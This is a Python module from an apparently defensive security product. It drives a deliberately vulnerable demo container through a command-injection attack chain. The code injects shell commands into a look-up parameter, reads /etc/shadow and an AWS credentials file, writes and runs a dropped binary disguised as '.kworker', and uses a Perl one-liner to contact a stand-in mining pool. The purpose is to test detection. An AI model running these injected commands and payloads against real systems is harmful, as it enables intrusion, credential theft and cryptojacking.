"""The sample as one thing: build it, run it, let it work, attack it step by step, take it away. Watches and judges nothing.

Every step is a real request through the real weakness of the sample's web page, and says what came back. Whether an
alert, an incident and a response follow is for the rest of the product to show.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from urllib.parse import quote

from periderm.model.errors import ConnectError, ContainerRuntimeError
from periderm.model.policy import Policy, PolicyMode
from periderm.model.text import Text
from periderm.ports.clock import Clock
from periderm.ports.sample import AttackStep
from periderm.ports.sample_parts import SampleBuilt, SampleEngine, SampleSource, Visitor

MARKER = "/tmp/pwned"  # noqa: S108 -- inside the sample container; must match sample_files/dropped.c
DROPPED = "/tmp/.kworker"  # noqa: S108 -- inside the sample container
POOL = ("203.0.113.7", 3333)  # TEST-NET-3 (RFC 5737): an address of nobody; 3333 is a usual port of mining pools
_LOOKUP = "/cgi-bin/lookup.pl?host="
_HOST = "depot-north.internal"
_CHUNK = 300  # of base64 in one request: a request line is short
_SHOWN = 2000
_READY_SECONDS = 60  # a machine that builds beside it starts a container slowly
# One round of visitors, and what a right answer begins with.
VISITS: tuple[tuple[str, bytes], ...] = (
    ("/", b"<!doctype html>"),
    ("/shop.css", b"body"),
    ("/health.txt", b"ok"),
    (_LOOKUP + _HOST, b"10.20.0.11"),
    ("/health.txt", b"ok"),
    (_LOOKUP + "depot-south.internal", b"10.20.0.12"),
    (_LOOKUP + "depot-east.internal", b"10.20.0.13"),
)
POLICY = Policy(
    id="pol-sample",
    name="sample shop",
    labels={"io.periderm.sample": "true"},
    mode=PolicyMode.ENFORCE,
    kill_drift=True,
    priority=100,
    author="periderm demo",
    reason="The sample shows enforcement; everywhere else alerting is the resting state.",
)


class DemoSample:
    """`ports.sample.Sample`. `visit` opens a visitor of the container whose first process is given; `expected` are the
    detectors that its attack must fire; `pause` seconds lie between the steps of the attack."""

    def __init__(
        self,
        source: SampleSource,
        engine: SampleEngine,
        visit: Callable[[int], Visitor],
        clock: Clock,
        *,
        expected: frozenset[str] = frozenset(),
        pause: float = 0.5,
    ) -> None:
        self._source = source
        self._engine = engine
        self._visit = visit
        self._clock = clock
        self._expected = expected
        self._pause = pause

    def available(self) -> str:
        """'' if the sample can run here, else one sentence what is missing and how to get it."""
        missing = self._engine.available()
        return missing or ("" if self._built() else self._source.available())

    def build(self, progress: Callable[[str, float | None], None]) -> None:
        """Makes the image unless it is there and its sources have not changed."""
        if self._built():
            return
        with self._source.alone():
            if self._built():  # by somebody else, while we waited
                return
            wanted = self._source.key()
            need_base = not self._engine.has_base(wanted)
            parts = self._source.make(lambda text, share: progress(text.en, share * 0.85), base=need_base)
            self._engine.build(parts, lambda text, share: progress(text.en, 0.85 + share * 0.15))
            self._source.discard_base()

    def image_digest(self) -> str:
        """`sha256:…` of the image's configuration; '' before it was built."""
        built = self._built()
        return built.digest if built else ""

    def policy(self) -> Policy:
        """How far the product may go for the sample: the kernel may kill what the image did not bring."""
        return POLICY

    def start(self) -> str:
        """Starts the container and returns its id once its web page answers. Raises ConnectError if it never does."""
        identity = self._engine.start()
        deadline = self._clock.monotonic() + _READY_SECONDS * 10**9
        visitor = self._visit(self._engine.pid())
        try:
            while True:
                try:
                    if visitor.get("/health.txt").status == 200:
                        return identity
                except ConnectError:
                    if self._clock.monotonic() > deadline:
                        raise
                self._clock.sleep(0.05)
        finally:
            visitor.close()

    def normal_work(self, seconds: float, progress: Callable[[float], None]) -> int:
        """Ordinary visits for so long: pages, look-ups and health checks, about ten a second. Counts right answers."""
        begun = self._clock.monotonic()
        visits = answered = 0
        visitor = self._visit(self._pid())
        try:
            while (spent := (self._clock.monotonic() - begun) / 1e9) < seconds:
                target, beginning = VISITS[visits % len(VISITS)]
                visits += 1
                try:
                    answer = visitor.get(target)
                    answered += answer.status == 200 and answer.body.startswith(beginning)
                except ConnectError:
                    pass  # an unanswered request is what the caller sees as a lower count
                progress(min(1.0, spent / seconds))
                self._clock.sleep(0.1)
        finally:
            visitor.close()
        return answered

    def attack(self) -> Iterator[AttackStep]:
        """Each step through the real weakness, in order. Raises ConnectError if the web page is gone."""
        built = self._built()
        if built is None:
            raise ContainerRuntimeError("The sample was not built.", "Build it with `periderm demo --build`.")
        visitor = self._visit(self._pid())
        try:
            for step in (self._shell, self._credentials, self._drop, self._execute, self._miner):
                yield step(visitor, built)
                self._clock.sleep(self._pause)
        finally:
            visitor.close()

    def expected_detectors(self) -> frozenset[str]:
        """What must be in the incident's chain."""
        return self._expected

    def marker_absent(self) -> bool:
        """Whether the dropped program never got to write its file. Raises ContainerRuntimeError if the sample is gone."""
        return not self._engine.exists(MARKER)

    def stop(self) -> None:
        """Removes the container; the image stays for the next time."""
        self._engine.stop()

    def clean(self) -> list[str]:
        """Removes container, images and cache; says what was removed."""
        with self._source.alone():
            return [*self._engine.clean(), *self._source.clean()]

    # --- the parts ---

    def _built(self) -> SampleBuilt | None:
        return self._engine.built(self._source.key())

    def _pid(self) -> int:
        pid = self._engine.pid()
        if not pid:
            raise ContainerRuntimeError("The sample container does not run.", "Start it with `periderm demo`.")
        return pid

    def _inject(self, visitor: Visitor, command: str) -> str:
        """Sends a command through the look-up's weakness; what came back, without the look-up's own line."""
        target = _LOOKUP + quote(f"{_HOST};{command}", safe="")
        text = visitor.get(target).body.decode("utf-8", "replace")
        head, _, rest = text.partition("\n")
        return (rest if _HOST in head else text)[:_SHOWN]

    def _shell(self, visitor: Visitor, _: SampleBuilt) -> AttackStep:
        command = "id; uname -a"
        answer = self._inject(visitor, command)
        title = Text("The look-up page runs a shell for the visitor", "查询页面替访问者运行了一个 shell")
        return AttackStep(title, "uid=0" in answer, answer, "shell", command)

    def _credentials(self, visitor: Visitor, _: SampleBuilt) -> AttackStep:
        command = "cat /etc/shadow; cat /srv/shop/.env"
        answer = self._inject(visitor, command)
        title = Text("The shell reads the password file and the shop's secrets", "shell 读取了口令文件和商店的密钥")
        return AttackStep(title, "root:" in answer and "AWS_ACCESS_KEY_ID=" in answer, answer, "credentials", command)

    def _drop(self, visitor: Visitor, built: SampleBuilt) -> AttackStep:
        """The program arrives in pieces, each in a request of its own."""
        staged = DROPPED + ".b64"
        text = base64.b64encode(built.dropped).decode()
        pieces = [text[i : i + _CHUNK] for i in range(0, len(text), _CHUNK)]
        self._inject(visitor, f"rm -f {staged} {DROPPED} {MARKER}")
        for piece in pieces:
            self._inject(visitor, f"printf %s {piece} >>{staged}")
        command = f"base64 -d {staged} >{DROPPED}; chmod 755 {DROPPED}; wc -c <{DROPPED}"
        answer = self._inject(visitor, command)
        size, count = len(built.dropped), len(pieces)
        title = Text(f"A program of {size} bytes is written in {count} pieces", f"分 {count} 段写入一个 {size} 字节的程序")
        return AttackStep(title, answer.strip() == str(size), answer, "drop", command)

    def _execute(self, visitor: Visitor, _: SampleBuilt) -> AttackStep:
        """128 + 9 is what a shell calls a program that was killed; the marker tells whether it was in time."""
        command = f"{DROPPED}; echo status $?"
        answer = self._inject(visitor, command)
        happened = "dropped program ran" in answer or "status 137" in answer
        title = Text("The dropped program is started", "启动写入的程序")
        return AttackStep(title, happened, answer, "execute", command)

    def _miner(self, visitor: Visitor, _: SampleBuilt) -> AttackStep:
        """The pool's address exists only on the loopback interface of the container's own network."""
        address, port = POOL
        hello = '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}'
        script = (
            f'use IO::Socket::INET;$s=IO::Socket::INET->new(PeerAddr=>"{address}:{port}",Timeout=>5) or exit 1;'
            f"print $s q({hello}).qq(\\n);$s->flush;print scalar <$s>"
        )
        command = f"perl -e '{script}'"
        listener = visitor.listen(address, port)
        try:
            answer = self._inject(visitor, command)
            heard = listener.heard(2.0)
        finally:
            listener.close()
        title = Text(f"The shell greets a mining pool at {address}:{port}", f"shell 连接矿池 {address}:{port}")
        return AttackStep(title, b"mining.subscribe" in heard, answer, "miner", command)
